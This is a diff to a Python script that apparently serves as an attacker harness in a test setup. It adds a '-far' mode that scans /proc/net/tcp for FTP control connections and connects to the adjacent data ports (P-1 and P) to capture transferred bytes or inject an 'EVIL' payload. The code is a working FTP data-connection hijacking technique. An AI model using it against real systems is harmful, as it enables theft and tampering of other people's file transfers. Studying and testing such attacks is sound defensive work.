@@ -15,6 +15,10 @@ connects to each as fast as it can until SECONDS have passed or OUT.stop exists:
   reverse forward is checked (sshd under `GatewayPorts no` binds loopback, not that address),
   and reads whatever connects there, appended to OUT.
 
+A MODE ending in "-far" runs on the FTP server's host instead, another host than the SSH
+server's: there the control connection's row has FTP_PORT as its local port and the SSH
+server's address and P as its peer, and it connects to P-1 and P there (no listener to see).
+
 Prints "ready" once running, and at the end one line: CONNECTIONS BYTES-STOLEN.
 """
 import os
@@ -23,6 +27,8 @@ import sys
 import time
 
 mode, ftp_port, size, out, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], float(sys.argv[5])
+far = mode.endswith("-far")
+mode = mode.removesuffix("-far")
 payload = (b"EVIL" * (size // 4 + 1))[:size]
 
 
@@ -36,7 +42,7 @@ def addr_of(hexaddr):
 
 def targets():
     """(address, port) of every listener next to a control connection to the FTP port."""
-    controls, listeners = set(), set()
+    controls, listeners, peers = set(), set(), set()
     for table in ("/proc/net/tcp", "/proc/net/tcp6"):
         try:
             rows = open(table).read().splitlines()[1:]
@@ -47,8 +53,12 @@ def targets():
             (la, lp), (_, rp), st = f[1].split(":"), f[2].split(":"), f[3]
             if st == "01" and int(rp, 16) == ftp_port:
                 controls.add((addr_of(la), int(lp, 16)))
+            elif st == "01" and int(lp, 16) == ftp_port:
+                peers.add((addr_of(f[2].split(":")[0]), int(rp, 16)))
             elif st == "0A":
                 listeners.add((addr_of(la), int(lp, 16)))
+    if far:
+        return sorted({(a, p - d) for a, p in peers for d in (0, 1)})
     near = {(a, p - d) for a, p in controls for d in (0, 1)}
     return [t for t in listeners if t in near]
 
